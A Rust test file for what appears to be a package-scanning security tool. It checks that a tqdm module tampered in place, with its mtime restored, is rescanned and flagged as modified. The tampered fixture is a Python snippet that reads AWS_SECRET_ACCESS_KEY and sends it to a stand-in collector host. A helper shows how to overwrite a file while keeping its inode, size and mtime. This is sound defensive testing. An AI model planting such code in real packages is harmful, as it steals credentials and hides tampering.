//! A file edited in place with its size kept and its mtime put back
//! (`touch -r`, `os.utime`) must not keep its old, clean verdict in a
//! long-running process: every cache keyed on a file's identity includes the
//! change time, which user space cannot set back.

mod common;

use std::collections::BTreeMap;
use std::path::Path;
use std::sync::Arc;

use common::{generate, FakeHost};
use squatch::table::QueryContext;
use squatch::tables::python_install_findings::PythonInstallFindings;
use squatch::tables::python_package_provenance::PythonPackageProvenance;

/// Clean module, padded with a comment to the length of the tampered one.
fn clean_and_dirty() -> (Vec<u8>, Vec<u8>) {
    let dirty = b"import os, urllib.request\nclass tqdm:\n    pass\n_k = os.environ.get(\"AWS_SECRET_ACCESS_KEY\")\nurllib.request.urlopen(\"https://collector.invalid/t?k=\" + str(_k))\n".to_vec();
    let mut clean = b"class tqdm:\n    pass\n#".to_vec();
    clean.resize(dirty.len() - 1, b'x');
    clean.push(b'\n');
    assert_eq!(clean.len(), dirty.len());
    (clean, dirty)
}

/// Overwrites `real` in place (same inode, same size) and puts its mtime
/// back to what it was, to the nanosecond.
pub fn tamper_keeping_mtime(real: &Path, bytes: &[u8]) {
    use std::io::{Seek, Write};
    let before = std::fs::metadata(real).unwrap();
    // Let the clock move so that ctime differs even on coarse timestamps.
    std::thread::sleep(std::time::Duration::from_millis(30));
    let mut f = std::fs::OpenOptions::new().write(true).open(real).unwrap();
    f.seek(std::io::SeekFrom::Start(0)).unwrap();
    f.write_all(bytes).unwrap();
    f.set_modified(before.modified().unwrap()).unwrap();
    drop(f);
    let after = std::fs::metadata(real).unwrap();
    use std::os::unix::fs::MetadataExt;
    assert_eq!(
        (
            before.ino(),
            before.size(),
            before.mtime(),
            before.mtime_nsec()
        ),
        (after.ino(), after.size(), after.mtime(), after.mtime_nsec()),
        "the tamper keeps inode, size and mtime"
    );
}

fn findings_for(rows: &[BTreeMap<String, String>], suffix: &str) -> usize {
    rows.iter()
        .filter(|r| r["path"].ends_with(suffix) && !r["rule_id"].is_empty())
        .count()
}

#[test]
fn tamper_with_mtime_restored_is_rescanned_and_reverified_in_one_process() {
    let fh = FakeHost::new();
    let site = fh.venv("/opt/app/venv", "3.12", false);
    let (clean, dirty) = clean_and_dirty();
    let d = fh
        .dist(&site, "tqdm", "4.66.0")
        .file("tqdm/__init__.py", "from .std import tqdm\n")
        .file("tqdm/std.py", &clean)
        .write();
    let std_py = d.file("tqdm/std.py");

    let host = Arc::new(fh.host());
    let findings = PythonInstallFindings::new(host.clone());
    let provenance = PythonPackageProvenance::new(host);

    let rows = generate(&findings, &QueryContext::all());
    assert_eq!(findings_for(&rows, "tqdm/std.py"), 0, "{rows:#?}");
    let prov = generate(&provenance, &QueryContext::all());
    assert_eq!(prov[0]["record_status"], "ok", "{prov:#?}");
    // A second query is served from the caches and says the same.
    assert_eq!(
        findings_for(&generate(&findings, &QueryContext::all()), "tqdm/std.py"),
        0
    );

    tamper_keeping_mtime(&fh.real(&std_py), &dirty);

    let rows = generate(&findings, &QueryContext::all());
    assert!(
        findings_for(&rows, "tqdm/std.py") > 0,
        "the tampered file was not rescanned: {rows:#?}"
    );
    let prov = generate(&provenance, &QueryContext::all());
    assert_eq!(prov[0]["record_status"], "modified", "{prov:#?}");
    assert_eq!(prov[0]["files_modified"], "1", "{prov:#?}");
}
